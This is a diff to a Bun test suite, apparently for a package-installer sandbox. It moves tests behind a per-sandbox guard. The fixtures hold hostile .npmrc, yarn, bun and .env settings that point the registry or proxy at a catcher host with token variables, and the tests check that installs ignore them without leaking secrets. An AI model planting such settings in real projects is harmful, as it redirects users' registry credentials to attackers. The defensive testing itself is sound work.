@@ -2,7 +2,7 @@ import { afterAll, afterEach, beforeAll, describe, expect, test } from 'bun:test
 import { writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { findUv } from '../find-uv.ts';
-import { CASES } from '../runner.ts';
+import { CASES, standsForItsSandbox } from '../runner.ts';
 import { type AttackedUser, openAttackedUser } from './attacked-user.ts';
 import { IDLE, openRegistry, type Registry } from './npm-registry.ts';
 
@@ -46,63 +46,6 @@ describe.each(CASES)('a folder sends secrets away, $sandbox, user $user', ({ san
     await attacked.folder(name, { 'package.json': MANIFEST, 'main.mjs': IDLE, ...written });
     return await attacked.run(`./${name}`, [], { ...env, ...more });
   };
-
-  test.each([
-    [
-      'a variable as a login',
-      { '.npmrc': 'registry=CATCHER\n//HOST/:_authToken=${ANY}\n' },
-      ['.npmrc:1', '.npmrc:2'],
-    ],
-    [
-      'a variable in the address',
-      { '.npmrc': '# hello\nregistry=https://public.example/${ANY}/\n' },
-      ['.npmrc:2'],
-    ],
-    [
-      'a registry for one scope',
-      {
-        '.npmrc': '@corp:registry=CATCHER\n',
-        'package.json': JSON.stringify({
-          name: 'n',
-          main: 'main.mjs',
-          dependencies: { '@corp/good': '1.0.0' },
-        }),
-      },
-      ['.npmrc:1'],
-    ],
-    ['a proxy', { '.npmrc': 'proxy=CATCHER\nhttps-proxy=CATCHER\n' }, ['.npmrc:1', '.npmrc:2']],
-    ['a registry without a name', { '.npmrc': 'registry=https://10.0.0.1/\n' }, ['.npmrc:1']],
-    [
-      'settings of yarn',
-      { '.yarnrc.yml': 'npmRegistryServer: "CATCHER"\nnpmAuthToken: "${ANY}"\n' },
-      ['.yarnrc.yml:1', '.yarnrc.yml:2'],
-    ],
-    [
-      'settings of bun',
-      { 'bunfig.toml': '[install]\nregistry = { url = "CATCHER", token = "$ANY" }\n' },
-      ['bunfig.toml:2'],
-    ],
-  ])(
-    '%s: left out, told with its line, and installed from the registry of the user',
-    async (_, files, lines) => {
-      const { exitCode, said } = await run(files);
-      expect({ exitCode, said }).toMatchObject({
-        exitCode: 0,
-        said: expect.stringContaining('Successfully installed'),
-      });
-      for (const line of lines) expect(said).toContain(`"at":"${line}"`);
-      expect(said).not.toContain(VARIABLE);
-    },
-  );
-
-  test.each([
-    ['NPM_CONFIG_REGISTRY=CATCHER\nNPM_CONFIG_TOKEN=$ANY\nBUN_CONFIG_REGISTRY=CATCHER\n', '.env'],
-    ['HTTP_PROXY=CATCHER\nHTTPS_PROXY=CATCHER\nhttp_proxy=CATCHER\n', '.env.production'],
-    ['BUN_CONFIG_REGISTRY=CATCHER\n', '.env.local'],
-  ])('%p in %s: not read by the installer', async (text, file) => {
-    const { exitCode } = await run({ '.dockerignore': '!.env*\n!.env\n', [file]: text });
-    expect(exitCode).toBe(0);
-  });
 
   test('the login of the user goes to the host it is for', async () => {
     const before = registry.requests.length;
@@ -181,6 +124,66 @@ describe.each(CASES)('a folder sends secrets away, $sandbox, user $user', ({ san
     expect(
       whole.some((file) => file.includes('/packages/npm/') && file.includes('/node_modules/shared/')),
     ).toBe(true);
+  });
+
+  // Which settings of a folder reach an installer is decided before there is a sandbox: one user for each will do.
+  if (!standsForItsSandbox({ sandbox, user })) return;
+
+  test.each([
+    [
+      'a variable as a login',
+      { '.npmrc': 'registry=CATCHER\n//HOST/:_authToken=${ANY}\n' },
+      ['.npmrc:1', '.npmrc:2'],
+    ],
+    [
+      'a variable in the address',
+      { '.npmrc': '# hello\nregistry=https://public.example/${ANY}/\n' },
+      ['.npmrc:2'],
+    ],
+    [
+      'a registry for one scope',
+      {
+        '.npmrc': '@corp:registry=CATCHER\n',
+        'package.json': JSON.stringify({
+          name: 'n',
+          main: 'main.mjs',
+          dependencies: { '@corp/good': '1.0.0' },
+        }),
+      },
+      ['.npmrc:1'],
+    ],
+    ['a proxy', { '.npmrc': 'proxy=CATCHER\nhttps-proxy=CATCHER\n' }, ['.npmrc:1', '.npmrc:2']],
+    ['a registry without a name', { '.npmrc': 'registry=https://10.0.0.1/\n' }, ['.npmrc:1']],
+    [
+      'settings of yarn',
+      { '.yarnrc.yml': 'npmRegistryServer: "CATCHER"\nnpmAuthToken: "${ANY}"\n' },
+      ['.yarnrc.yml:1', '.yarnrc.yml:2'],
+    ],
+    [
+      'settings of bun',
+      { 'bunfig.toml': '[install]\nregistry = { url = "CATCHER", token = "$ANY" }\n' },
+      ['bunfig.toml:2'],
+    ],
+  ])(
+    '%s: left out, told with its line, and installed from the registry of the user',
+    async (_, files, lines) => {
+      const { exitCode, said } = await run(files);
+      expect({ exitCode, said }).toMatchObject({
+        exitCode: 0,
+        said: expect.stringContaining('Successfully installed'),
+      });
+      for (const line of lines) expect(said).toContain(`"at":"${line}"`);
+      expect(said).not.toContain(VARIABLE);
+    },
+  );
+
+  test.each([
+    ['NPM_CONFIG_REGISTRY=CATCHER\nNPM_CONFIG_TOKEN=$ANY\nBUN_CONFIG_REGISTRY=CATCHER\n', '.env'],
+    ['HTTP_PROXY=CATCHER\nHTTPS_PROXY=CATCHER\nhttp_proxy=CATCHER\n', '.env.production'],
+    ['BUN_CONFIG_REGISTRY=CATCHER\n', '.env.local'],
+  ])('%p in %s: not read by the installer', async (text, file) => {
+    const { exitCode } = await run({ '.dockerignore': '!.env*\n!.env\n', [file]: text });
+    expect(exitCode).toBe(0);
   });
 
   test.skipIf(uv === undefined).each([
